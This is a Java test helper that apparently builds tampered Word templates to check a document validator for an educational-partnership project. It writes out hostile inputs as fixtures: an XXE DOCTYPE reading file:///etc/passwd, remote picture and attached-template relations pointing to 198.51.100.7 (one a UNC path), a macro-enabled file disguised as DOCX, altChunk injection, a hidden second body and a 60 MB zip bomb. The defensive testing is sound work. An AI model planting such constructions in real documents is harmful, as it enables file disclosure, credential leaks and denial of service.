package nrw.bildungspartner.document.template;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import nrw.bildungspartner.document.writing.ShippedTemplates;
import org.docx4j.XmlUtils;
import org.docx4j.openpackaging.exceptions.Docx4JException;
import org.docx4j.openpackaging.packages.WordprocessingMLPackage;

/** A template of the house as the office, or somebody who means no good, might change it. */
public final class OfficeFiles {

    public static final String BODY = "word/document.xml";
    private static final String CONTENT_TYPES = "[Content_Types].xml";
    private static final String RELATIONS = "word/_rels/document.xml.rels";
    private static final String TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String MAIN =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    private OfficeFiles() {}

    public static byte[] museum() {
        return shipped("museum", "de");
    }

    public static byte[] shipped(String initiative, String language) {
        return ShippedTemplates.file(initiative, language).orElseThrow();
    }

    /** Another sentence, written with the library that fills the template. */
    public static byte[] reworded(byte[] docx, String sentence, String other) {
        try {
            var word = WordprocessingMLPackage.load(new ByteArrayInputStream(docx));
            var main = word.getMainDocumentPart();
            String body = XmlUtils.marshaltoString(main.getJaxbElement(), true, false);
            assertThat(body).contains(sentence);
            main.setJaxbElement((org.docx4j.wml.Document) XmlUtils.unmarshalString(body.replace(sentence, other)));
            var out = new ByteArrayOutputStream();
            word.save(out);
            return out.toByteArray();
        } catch (Docx4JException | jakarta.xml.bind.JAXBException e) {
            throw new IllegalStateException(e);
        }
    }

    public static byte[] changed(byte[] docx, String part, UnaryOperator<String> change) {
        var entries = unzipped(docx);
        var before = new String(entries.get(part), StandardCharsets.UTF_8);
        var after = change.apply(before);
        assertThat(after).as(part).isNotEqualTo(before);
        entries.put(part, after.getBytes(StandardCharsets.UTF_8));
        return zipped(entries);
    }

    public static byte[] body(byte[] docx, UnaryOperator<String> change) {
        return changed(docx, BODY, change);
    }

    /** A file with a program in it, as Word saves one: DOCM, whatever its name says. */
    public static byte[] withMacro(byte[] docx) {
        var macro = changed(docx, CONTENT_TYPES, types -> types.replace(
                        MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")
                .replace(
                        "</Types>",
                        "<Override PartName=\"/word/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
                                + "</Types>"));
        return with(
                relation(
                        macro,
                        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                        "vbaProject.bin",
                        ""),
                "word/vbaProject.bin",
                new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
    }

    /** A picture that is fetched from somewhere each time the file is opened. */
    public static byte[] withRemotePicture(byte[] docx) {
        return relation(docx, TYPES + "image", "http://198.51.100.7/pixel.png", "External");
    }

    public static byte[] withAttachedTemplate(byte[] docx) {
        return relation(
                docx, TYPES + "attachedTemplate", "file:///\\\\198.51.100.7\\vorlagen\\Normal.dotm", "External");
    }

    public static byte[] withLink(byte[] docx) {
        return relation(docx, TYPES + "hyperlink", "https://www.bildungspartner.schulministerium.nrw.de/", "External");
    }

    public static byte[] withSheet(byte[] docx) {
        return with(
                relation(docx, TYPES + "oleObject", "embeddings/oleObject1.bin", ""),
                "word/embeddings/oleObject1.bin",
                new byte[] {1, 2, 3});
    }

    public static byte[] withOtherText(byte[] docx) {
        var other = body(
                docx, xml -> xml.replaceFirst("<w:sectPr", "<w:altChunk xmlns:r=\"urn:r\" r:id=\"rId77\"/><w:sectPr"));
        return with(relation(other, TYPES + "aFChunk", "mehr.html", ""), "word/mehr.html", "<b>x</b>".getBytes());
    }

    public static byte[] withDocumentType(byte[] docx) {
        return body(
                docx,
                xml -> xml.replaceFirst(
                        "<w:document", "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w:document"));
    }

    /** A second body behind the first one: some programs open this, others that. */
    public static byte[] withHiddenBody(byte[] docx) {
        byte[] twice = with(docx, "word/document.xmX", "<w:document/>".getBytes());
        for (int i = 0; i < twice.length - 3; i++) {
            if (twice[i] == '.' && twice[i + 1] == 'x' && twice[i + 2] == 'm' && twice[i + 3] == 'X') {
                twice[i + 3] = 'l';
            }
        }
        return twice;
    }

    public static byte[] bomb() {
        return with(museum(), "word/media/bomb.xml", new byte[60_000_000]);
    }

    private static byte[] relation(byte[] docx, String type, String target, String mode) {
        return changed(
                docx,
                RELATIONS,
                relations -> relations.replace(
                        "</Relationships>",
                        "<Relationship Id=\"rId77\" Type=\"" + type + "\" Target=\"" + target + "\""
                                + (mode.isEmpty() ? "" : " TargetMode=\"" + mode + "\"") + "/></Relationships>"));
    }

    public static byte[] with(byte[] docx, String name, byte[] content) {
        var entries = unzipped(docx);
        entries.put(name, content);
        return zipped(entries);
    }

    public static byte[] part(byte[] docx, String name) {
        return unzipped(docx).get(name);
    }

    /** As Word saves it: the code's picture has another name, the language is gone from the properties. */
    public static byte[] savedByWord(byte[] docx) {
        var entries = unzipped(docx);
        entries.put("word/media/image1.png", entries.remove("word/media/code.png"));
        entries.replaceAll((name, content) -> name.endsWith(".rels") || name.startsWith("docProps")
                ? new String(content, StandardCharsets.UTF_8)
                        .replace("media/code.png", "media/image1.png")
                        .replaceAll("<dc:language>.*</dc:language>", "")
                        .getBytes(StandardCharsets.UTF_8)
                : content);
        return zipped(entries);
    }

    private static Map<String, byte[]> unzipped(byte[] docx) {
        var entries = new LinkedHashMap<String, byte[]>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(docx))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                entries.put(entry.getName(), zip.readAllBytes());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return entries;
    }

    private static byte[] zipped(Map<String, byte[]> entries) {
        var bytes = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(bytes)) {
            for (var entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
